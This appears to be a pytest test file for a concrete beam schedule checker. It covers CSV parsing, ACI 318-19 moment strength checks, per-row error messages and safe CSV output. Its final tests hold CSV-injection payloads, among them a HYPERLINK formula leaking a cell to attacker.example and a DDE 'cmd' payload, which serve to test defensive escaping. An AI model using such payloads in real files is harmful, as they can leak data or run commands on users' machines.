"""The beam schedule: per-row results and messages, layout tolerance, CSV output.

Expected strengths are hand calculations written here (ACI 318-19 22.2 with
yielded steel, Table 21.2.2 for φ); expected messages follow issue 6 (a bad
cell names its row, column and value; decimal commas refused).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest

import engine
import engine.documents.schedule
from engine.documents.schedule import (REQUIRED_COLUMNS, RESULT_COLUMNS, ScheduleError, check_schedule,
                             parse_schedule, run_schedule, schedule_csv, spreadsheet_safe)

HEADER = "mark,units,fc,fy,b,d,As,Mu"


def _phi_mn_yielded(fc, fy, b, d, As, per_moment_unit):
    """φMn for a yielded, tension-controlled rectangle: 0.9·As·fy·(d − a/2), a = As·fy/(0.85 f'c b)."""
    a = As * fy / (0.85 * fc * b)  # ACI 318-19 22.2.2.4.1, C = T
    return 0.9 * As * fy * (d - a / 2) / per_moment_unit  # Table 21.2.2: φ = 0.90


# Hand values: B-101 φMn = 0.9·3.16·60000·(21.5 − 4.647/2)/12000 = 272.69 kip·ft.
B101_PHI_MN = _phi_mn_yielded(4000, 60000, 12, 21.5, 3.16, 12000)
# G-3 (SI): φMn = 0.9·1500·420·(500 − 1500·420/(0.85·28·300)/2)/1e6 = 255.9 kN·m.
G3_PHI_MN = _phi_mn_yielded(28, 420, 300, 500, 1500, 1e6)


def _schedule(*rows: str, header: str = HEADER) -> str:
    return "\n".join((header,) + rows) + "\n"


def test_good_and_failing_rows_are_computed():
    schedule = run_schedule(_schedule(
        "B-101,us,4000,60000,12,21.5,3.16,180",
        "B-104,us,4000,60000,12,21.5,3.16,300",  # Mu above φMn: fails 9.5.1.1
        "G-3,si,28,420,300,500,1500,250",
    ))
    good, failing, si = schedule.rows
    assert (good.row, good.mark, good.computed, good.ok) == (2, "B-101", True, True)
    assert good.phiMn == pytest.approx(B101_PHI_MN, rel=1e-12)
    assert good.utilization == pytest.approx(180 / B101_PHI_MN, rel=1e-12)
    # εt = 0.003(21.5 − c)/c with c = 4.647/0.85 = 5.467 in: 0.0088 ≥ εty + 0.003 = 0.00507.
    assert good.eps_t == pytest.approx(0.003 * (21.5 - 5.467128) / 5.467128, rel=1e-6)
    assert good.section_class == "tension-controlled"
    assert good.message == ""
    assert failing.computed and failing.ok is False
    assert failing.utilization == pytest.approx(300 / B101_PHI_MN, rel=1e-12)
    assert "9.5.1.1" in failing.message
    assert si.phiMn == pytest.approx(G3_PHI_MN, rel=1e-12)
    summary = schedule.summary
    assert (summary.rows, summary.passed, summary.failed, summary.errors) == (3, 2, 1, 0)
    assert (summary.worst_mark, summary.worst_row) == ("B-104", 3)
    assert summary.worst_utilization == pytest.approx(300 / B101_PHI_MN, rel=1e-12)


@pytest.mark.parametrize("row, words", [
    pytest.param('B-1,us,4000,60000,12,21.5,"3,16",180', ("row 2", "As", "'3,16'", "decimal"),
                 id="quoted-decimal-comma"),
    pytest.param("B-1,us,4000,60000,12,21.5,3,16,180", ("row 2", "'180'", "column 9",
                                                        "decimal comma"),
                 id="unquoted-decimal-comma-shifts-cells"),
    pytest.param('B-1,us,"4,000",60000,12,21.5,3.16,180', ("row 2", "fc", "'4,000'"),
                 id="thousands-comma"),
    pytest.param("B-1,us,four,60000,12,21.5,3.16,180", ("row 2", "fc", "'four'", "a number"),
                 id="word"),
    pytest.param("B-1,us,nan,60000,12,21.5,3.16,180", ("row 2", "fc", "'nan'"), id="nan"),
    pytest.param("B-1,us,-4000,60000,12,21.5,3.16,180", ("row 2", "fc", "'-4000'", "(0, 30,000]"),
                 id="negative"),  # the engine's range for f'c in psi
    pytest.param("B-1,us,4000,60000,12,21.5,3.16,", ("row 2", "Mu", "empty"), id="empty-Mu"),
    pytest.param("B-1,km,4000,60000,12,21.5,3.16,180", ("row 2", "units", "'km'"), id="units"),
    pytest.param(",us,4000,60000,12,21.5,3.16,180", ("row 2", "mark", "empty"), id="no-mark"),
    pytest.param("B-1,us,4000,60000,12,21.5,300,180", ("row 2", "As", "'300'"),
                 id="As-above-gross-area"),
])
def test_a_bad_cell_fails_only_its_row_naming_row_column_and_value(row, words):
    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180", row,
                                      "G-3,si,28,420,300,500,1500,250"))
    before, bad, after = schedule.rows
    assert before.computed and after.computed
    assert not bad.computed and bad.phiMn is None and bad.ok is None
    message = bad.message.replace("row 3", "row 2")  # the bad row is line 3 of the file
    assert bad.message.startswith("row 3")
    for word in words:
        assert word in message, (word, bad.message)
    assert schedule.summary.errors == 1


def test_optional_columns_spiral_dt_es_and_blank_optional_cells():
    schedule = run_schedule(_schedule(
        "B-301,us,4000,60000,12,21.5,3.16,180,23.5,,yes",
        "B-302,us,4000,60000,12,21.5,3.16,180,,28000000,no",
        "B-303,us,4000,60000,12,21.5,3.16,180,,,maybe",
        header=HEADER + ",dt,es,spiral"))
    with_dt, with_es, bad = schedule.rows
    assert with_dt.inputs == dict(units="us", fc=4000.0, fy=60000.0, b=12.0, d=21.5, As=3.16,
                                  Mu=180.0, dt=23.5, spiral=True)
    assert with_es.inputs["es"] == 28_000_000.0 and with_es.inputs["spiral"] is False
    # A non-default Es computes but warns (ACI 318-19 20.2.2.2).
    assert with_es.computed and "20.2.2.2" in with_es.message
    assert not bad.computed and "spiral" in bad.message and "'maybe'" in bad.message


def test_blank_lines_bom_crlf_spaces_and_header_case_are_fine():
    text = ("\ufeff\r\n Mark , UNITS,FC,Fy,b,d,as,mu,\r\n\r\n"
            "B-101, us ,4000,60000,12,21.5,3.16,180,\r\n,,,,,,,,\r\n"
            "G-3,SI,28,420,300,500,1500,250,\r\n\r\n")
    schedule = run_schedule(text)
    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
        (4, "B-101", True), (6, "G-3", True)]  # rows are the file's lines (header on line 2)
    assert schedule.unknown_columns == ()
    assert schedule.rows[0].phiMn == pytest.approx(B101_PHI_MN, rel=1e-12)


def test_unknown_columns_are_reported_and_kept_in_the_output():
    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180,roof,north bay",
                                      header=HEADER + ",level,note"))
    assert schedule.unknown_columns == ("level", "note")
    assert any("level" in note for note in schedule.notes())
    assert schedule.rows[0].computed
    out = list(csv.DictReader(io.StringIO(schedule_csv(schedule))))
    assert (out[0]["level"], out[0]["note"]) == ("roof", "north bay")


@pytest.mark.parametrize("delimiter", ["\t", ";"], ids=["tab-paste", "semicolon"])
def test_spreadsheet_paste_separators_are_recognised(delimiter):
    text = _schedule("B-101,us,4000,60000,12,21.5,3.16,180").replace(",", delimiter)
    schedule = run_schedule(text)
    assert schedule.rows[0].phiMn == pytest.approx(B101_PHI_MN, rel=1e-12)


def test_semicolon_file_with_decimal_commas_is_refused_per_cell():
    schedule = run_schedule("mark;units;fc;fy;b;d;As;Mu\nB-101;us;4000;60000;12;21,5;3,16;180\n")
    row = schedule.rows[0]
    assert not row.computed
    assert "column d" in row.message and "'21,5'" in row.message and "decimal" in row.message


@pytest.mark.parametrize("text, words", [
    pytest.param("", ("empty", "header"), id="empty"),
    pytest.param("\n\n  \n", ("empty",), id="blank-lines-only"),
    pytest.param("mark,units,fc,fy,b,d,As\nB-1,us,4000,60000,12,21.5,3.16\n", ("Mu",),
                 id="Mu-column-missing"),
    pytest.param("B-101,us,4000,60000,12,21.5,3.16,180\n", ("mark", "units", "lacks"),
                 id="no-header-row"),
    pytest.param("mark,units,fc,fc,fy,b,d,As,Mu\n", ("'fc'", "twice"), id="column-twice"),
])
def test_unreadable_schedules_raise_one_clear_error(text, words):
    with pytest.raises(ScheduleError) as caught:
        parse_schedule(text)
    assert isinstance(caught.value, engine.InputError)
    for word in words:
        assert word in str(caught.value)
    assert "\n" not in str(caught.value)


def test_output_csv_is_the_input_then_the_results_in_full_precision():
    text = _schedule("B-101,us,4000,60000,12,21.5,3.16,180", "B-9,us,x,60000,12,21.5,3.16,180")
    schedule = run_schedule(text)
    rows = list(csv.reader(io.StringIO(schedule_csv(schedule))))
    assert rows[0] == HEADER.split(",") + list(RESULT_COLUMNS)
    good, bad = (dict(zip(rows[0], row)) for row in rows[1:])
    assert [good[c] for c in HEADER.split(",")] == "B-101,us,4000,60000,12,21.5,3.16,180".split(",")
    # Written in full: reads back as the very float computed.
    assert float(good["phiMn"]) == schedule.rows[0].phiMn
    assert float(good["phiMn"]) == pytest.approx(B101_PHI_MN, rel=1e-12)
    assert (good["ok"], good["section_class"], good["message"]) == ("true", "tension-controlled", "")
    assert bad["phiMn"] == "" and bad["ok"] == "" and "column fc" in bad["message"]


def test_results_of_an_earlier_run_are_recomputed_not_read():
    first = schedule_csv(run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180")))
    tampered = first.replace("true", "false")
    again = run_schedule(tampered)
    assert again.unknown_columns == ()
    assert schedule_csv(again) == first


def test_progress_is_reported_and_json_is_plain_data():
    rows = [f"B-{100 + i},us,4000,60000,12,21.5,3.16,{100 + i % 150}" for i in range(250)]
    calls = []
    schedule = check_schedule(parse_schedule(_schedule(*rows)),
                              progress=lambda done, total: calls.append((done, total)))
    assert calls == [(100, 250), (200, 250), (250, 250)]
    data = json.loads(json.dumps(schedule.to_dict()))
    assert data["summary"]["passed"] == 250 and len(data["rows"]) == 250
    assert data["rows"][0]["mark"] == "B-100" and data["rows"][0]["row"] == 2


def test_required_columns_are_the_issue_list():
    assert REQUIRED_COLUMNS == ("mark", "units", "fc", "fy", "b", "d", "As", "Mu")  # issue 6


def test_summary_text_names_counts_and_the_worst_beam():
    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180",
                                      "B-104,us,4000,60000,12,21.5,3.16,300",
                                      "B-105,us,4000,60000,12,21.5,abc,300"))
    text = schedule.summary.text()
    assert "1 pass" in text and "1 fail" in text and "1 could not be computed" in text
    assert "B-104" in text and f"{300 / B101_PHI_MN:.3f}" in text


def test_flange_and_compression_steel_columns_reach_the_engine():
    # Reference: engine.check with the same keywords (the schedule only carries them over).
    schedule = run_schedule(_schedule("B-1,us,4000,60000,12,21.5,3.16,180,48,4,,",
                                      "B-2,us,4000,60000,12,21.5,6,300,,,1.2,2.5",
                                      "B-3,us,4000,60000,12,21.5,6,300,,,1.2,",
                                      header=HEADER + ",bf,hf,asc,dc"))
    tee, doubly, half = schedule.rows
    assert tee.phiMn == pytest.approx(engine.check(
        units="us", fc=4000, fy=60000, b=12, d=21.5, As=3.16, Mu=180, bf=48, hf=4).phiMn, rel=1e-12)
    assert doubly.phiMn == pytest.approx(engine.check(
        units="us", fc=4000, fy=60000, b=12, d=21.5, As=6, Mu=300, asc=1.2, dc=2.5).phiMn,
        rel=1e-12)
    assert not half.computed and "column dc = ''" in half.message and "asc" in half.message


def test_digits_of_other_scripts_are_refused_in_a_number_cell():
    # A schedule is read as plain ASCII decimals (common practice for CSV exchange), the same
    # rule as share links; Arabic-Indic digits would otherwise be read silently as 4000.
    schedule = run_schedule("mark,units,fc,fy,b,d,As,Mu\nB-1,us,٤٠٠٠,60000,12,20,3,100\n")
    assert "column fc" in schedule.rows[0].message


def test_further_tension_layers_come_from_a_layers_column():
    # The cell holds the CLI's AREA@DEPTH pairs; the row must equal `engine.check` with the same
    # layers (the reference here is the check itself: the schedule adds parsing, not engineering).
    schedule = run_schedule("mark,units,fc,fy,b,d,As,Mu,h,layers\n"
                            "B-9,us,4000,60000,12,21.5,3.16,250,24,1.58@18.5 1.58@16\n")
    expected = engine.check(units="us", fc=4000, fy=60000, b=12, d=21.5, As=3.16, Mu=250, h=24,
                            layers=[(1.58, 18.5), (1.58, 16.0)])
    assert schedule.rows[0].phiMn == expected.phiMn


def test_a_malformed_layers_cell_fails_its_row_only():
    schedule = run_schedule("mark,units,fc,fy,b,d,As,Mu,layers\n"
                            "B-9,us,4000,60000,12,21.5,3.16,250,1.58x18\n"
                            "B-10,us,4000,60000,12,21.5,3.16,250,\n")
    assert "column layers = '1.58x18'" in schedule.rows[0].message
    assert schedule.rows[1].computed


# Issue 10 item 3: a decimal comma must never shift cells into other columns.
ISSUE_HEADER = "mark,units,fc,fy,b,d,As,Mu,dt"


def test_a_row_longer_than_the_header_is_refused_not_shifted():
    # The issue's row: meant As = 1.58 in², Mu = 190 kip·ft, no dt; the decimal comma split
    # 1,58 into As = 1 and Mu = 58 and pushed 190 into dt. The trailing comma makes 10 cells.
    schedule = run_schedule(_schedule("B-7,us,4000,60000,14,21.5,1,58,190,",
                                      "B-8,us,4000,60000,14,21.5,1.58,190,",
                                      header=ISSUE_HEADER))
    shifted, meant = schedule.rows
    assert not shifted.computed and shifted.inputs is None and shifted.ok is None
    for words in ("row 2 (B-7)", "10 cells", "header has 9 columns", "decimal comma",
                  "unquoted comma"):
        assert words in shifted.message, (words, shifted.message)
    assert meant.inputs == dict(units="us", fc=4000.0, fy=60000.0, b=14.0, d=21.5, As=1.58,
                                Mu=190.0)
    # The beam meant fails: φMn = 0.9·1.58·60000·(21.5 − a/2)/12000 with
    # a = 1.58·60000/(0.85·4000·14) = 1.992 in, 145.8 kip·ft < 190 (ACI 318-19 22.2.2.4.1).
    assert meant.phiMn == pytest.approx(_phi_mn_yielded(4000, 60000, 14, 21.5, 1.58, 12000),
                                        rel=1e-12)
    assert meant.ok is False
    assert schedule.summary.errors == 1


@pytest.mark.parametrize("delimiter, name", [("\t", "tab"), (";", "semicolon")])
def test_a_longer_row_in_a_pasted_table_names_its_separator(delimiter, name):
    text = _schedule("B-1,us,4000,60000,12,21.5,3.16,180,x", header=HEADER).replace(",", delimiter)
    row = run_schedule(text).rows[0]
    assert not row.computed and "9 cells" in row.message and f"a {name} inside a cell" in row.message


def test_a_shorter_row_reads_missing_optional_cells_as_blank_and_names_missing_required_ones():
    schedule = run_schedule(_schedule("B-1,us,4000,60000,12,21.5,3.16,180",
                                      "B-2,us,4000,60000,12,21.5",
                                      header=HEADER + ",dt,spiral"))
    short_optional, short_required = schedule.rows
    assert short_optional.computed and short_optional.phiMn == pytest.approx(B101_PHI_MN,
                                                                             rel=1e-12)
    assert not short_required.computed
    for words in ("row 3 (B-2)", "6 cells", "10 columns", "As, Mu"):
        assert words in short_required.message, (words, short_required.message)


# Issue 10 item 8: a malformed row fails alone and is named; the rows after it are read.
GOOD = "B-101,us,4000,60000,12,21.5,3.16,180"


@pytest.mark.parametrize("bad, words", [
    pytest.param('B-5,us,"4000,60000,12,21.5,3.16,180', ("row 3 (B-5)", "never closed"),
                 id="quote-never-closed"),
    pytest.param('B-5,us,4000,"60000,12,21.5,3.16,180', ("row 3 (B-5)", "never closed"),
                 id="quote-in-a-number-column"),
    pytest.param('B-5,us,4000,"60"000,12,21.5,3.16,180', ("row 3 (B-5)", "closing quote"),
                 id="text-after-a-closing-quote"),
    pytest.param("B-5,us,4000,60000,12,21.5,3.16," + "9" * 200_000,
                 ("row 3 (B-5)", "131,072 characters"), id="cell-over-the-csv-limit"),
])
def test_a_row_that_is_not_csv_fails_alone(bad, words):
    text = _schedule(GOOD, bad, GOOD.replace("B-101", "B-102"), GOOD.replace("B-101", "B-103"))
    schedule = run_schedule(text)
    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
        (2, "B-101", True), (3, "B-5", False), (4, "B-102", True), (5, "B-103", True)]
    for word in words:
        assert word in schedule.rows[1].message, (word, schedule.rows[1].message)
    assert len(schedule.rows[1].message) < 400
    out = list(csv.DictReader(io.StringIO(schedule_csv(schedule))))
    assert [row["mark"] for row in out] == ["B-101", "B-5", "B-102", "B-103"]


def test_two_stray_quotes_fail_their_own_rows_not_the_rows_between():
    text = _schedule(GOOD, 'B-2,us,"4000,60000,12,21.5,3.16,180',
                     GOOD.replace("B-101", "B-3"), GOOD.replace("B-101", "B-4"),
                     'B-5,us,4000",60000,12,21.5,3.16,180', GOOD.replace("B-101", "B-6"))
    schedule = run_schedule(text)
    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
        (2, "B-101", True), (3, "B-2", False), (4, "B-3", True), (5, "B-4", True),
        (6, "B-5", False), (7, "B-6", True)]


def test_a_quoted_line_break_in_a_note_column_is_one_row():
    schedule = run_schedule(_schedule(GOOD + ',"north bay\nsee drawing S-2"',
                                      GOOD.replace("B-101", "B-102") + ",",
                                      header=HEADER + ",note"))
    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
        (2, "B-101", True), (4, "B-102", True)]  # the note takes lines 2 and 3
    out = list(csv.DictReader(io.StringIO(schedule_csv(schedule))))
    assert out[0]["note"] == "north bay\nsee drawing S-2"


def test_a_huge_cell_is_quoted_shortened_in_its_message():
    schedule = run_schedule(_schedule("B-1,us,4000,60000,12,21.5," + "7" * 100_000 + ",180"))
    message = schedule.rows[0].message
    assert "column As" in message and "100,000 characters" in message and len(message) < 300


def test_line_separators_inside_a_cell_do_not_move_row_numbers():
    # U+2028 and a form feed are not line breaks in CSV (RFC 4180: CRLF); str.splitlines is.
    schedule = run_schedule(_schedule("B-1\u2028x,us,4000,60000,12,21.5,3.16,180",
                                      "B-2\x0c,us,4000,60000,12,21.5,3.16,180", GOOD))
    assert [row.row for row in schedule.rows] == [2, 3, 4]
    assert all(row.computed for row in schedule.rows)


def test_an_unexpected_error_in_one_rows_check_fails_that_row_only(monkeypatch):
    # Issue 10 item 1: one row whose check raises must not cost the schedule. The fault is
    # simulated (the engine's own crash is fixed in the engine); the other rows are computed.
    real_check = engine.documents.schedule.check

    def faulty(**inputs):
        if inputs["Mu"] == 20:
            raise AssertionError("unreachable: N(upper) ≥ 0 by construction")
        return real_check(**inputs)

    monkeypatch.setattr(engine.documents.schedule, "check", faulty)
    schedule = run_schedule(_schedule(GOOD, "B-2,us,4000,40000,36,36,0.27,20", GOOD))
    first, broken, last = schedule.rows
    assert first.computed and last.computed
    assert first.phiMn == pytest.approx(B101_PHI_MN, rel=1e-12)
    assert not broken.computed and broken.message.startswith("row 3 (B-2): internal error in the check")
    assert "AssertionError" in broken.message and "please report" in broken.message
    assert schedule.summary.errors == 1 and schedule.summary.rows == 3
    assert len(list(csv.reader(io.StringIO(schedule_csv(schedule))))) == 4


# Issue 10 item 4: results files are safe to open in a spreadsheet. The rule is OWASP's
# "CSV Injection" guidance: a cell starting with = + - @, tab or carriage return gets a
# leading single quote, which makes the spreadsheet show it as text.
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0",
           "-1+1", "@SUM(1+1)", "\tB-1", " =1+1"]


@pytest.mark.parametrize("text", HOSTILE + ["\r=1+1", "\n@A1"])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("B-1 " + text) == "B-1 " + text  # only the start matters


@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus-dde", "minus", "at", "tab",
                                               "space-equals"])
def test_hostile_marks_unknown_cells_and_headers_are_written_as_text(text):
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\n")
    writer.writerow(["mark", "units", "fc", "fy", "b", "d", "As", "Mu", "note", text])
    writer.writerow([text, "us", 4000, 60000, 12, 21.5, 3.16, 180, text, "x"])
    writer.writerow([text, "us", "bad", 60000, 12, 21.5, 3.16, 180, text, text])
    schedule = run_schedule(source.getvalue())
    assert schedule.rows[0].computed and not schedule.rows[1].computed
    out = list(csv.reader(io.StringIO(schedule_csv(schedule))))
    header = text.strip()  # header names are read without surrounding spaces and tabs
    triggers = ("=", "+", "-", "@", "\t", "\r")
    assert out[0][9] == ("'" + header if header.lstrip(" ")[:1] in triggers else header)
    for row in out[1:]:
        assert row[0] == row[8] == "'" + text  # mark and note, as given, behind a quote
    for row in out:
        for cell in row:
            assert cell.startswith("'") or cell.lstrip(" ")[:1] not in triggers, row


def test_numbers_stay_numbers_in_the_results_file():
    # A negative number cannot run as a formula; a user's -2 and the engine's own values
    # (a negative εt where the extreme layer is in compression) stay numbers.
    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180,-2,+3.5",
                                      header=HEADER + ",level,offset"))
    row = schedule.rows[0]
    negative = engine.documents.schedule.Schedule(
        columns=schedule.columns, unknown_columns=schedule.unknown_columns,
        rows=(dataclasses.replace(row, eps_t=-0.0012, phiMn=-1.5),), summary=schedule.summary)
    out = list(csv.DictReader(io.StringIO(schedule_csv(negative))))[0]
    assert (out["level"], out["offset"]) == ("-2", "+3.5")
    assert (out["eps_t"], out["phiMn"]) == ("-0.0012", "-1.5")


def test_a_stray_quote_in_a_note_does_not_swallow_the_rows_to_the_next_one():
    # The quote opens in row 2's note and a stray one closes at the end of row 4's note: read
    # naively, rows 3 and 4 would vanish into one note. Whole rows inside a cell mean a stray quote.
    header = HEADER + ",note"
    schedule = run_schedule(_schedule(GOOD + ',"see B-3', GOOD.replace("B-101", "B-3") + ",x",
                                      GOOD.replace("B-101", "B-4") + ',y"',
                                      GOOD.replace("B-101", "B-5") + ",z", header=header))
    assert [(row.row, row.mark) for row in schedule.rows][:2] == [(2, "B-101"), (3, "B-3")]
    assert not schedule.rows[0].computed and "quote" in schedule.rows[0].message
    assert schedule.rows[1].computed and schedule.rows[-1].mark == "B-5"
    assert {row.row for row in schedule.rows} == {2, 3, 4, 5}


def test_a_stray_quote_closed_in_the_middle_of_a_later_row_swallows_nothing():
    # Found by the schedule fuzz: a quote opening row 2's note, closed by a quoted cell of row 3
    # that starts with the separator, leaves a record of exactly the header's width whose last
    # cells are row 3's: read as one row, row 2 would compute with row 3's As and Mu.
    header = "mark,units,fc,fy,b,d,note,other,As,Mu"
    schedule = run_schedule(header + "\n"
                            'B-1,si,25,500,400,450,"north bay,1,2,3\n'
                            'B-2,us,4000,60000,12,21.5,level 2,",x",3.16,180\n')
    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
        (2, "B-1", False), (3, "B-2", True)]
    assert schedule.rows[1].inputs == dict(units="us", fc=4000.0, fy=60000.0, b=12.0, d=21.5,
                                           As=3.16, Mu=180.0)
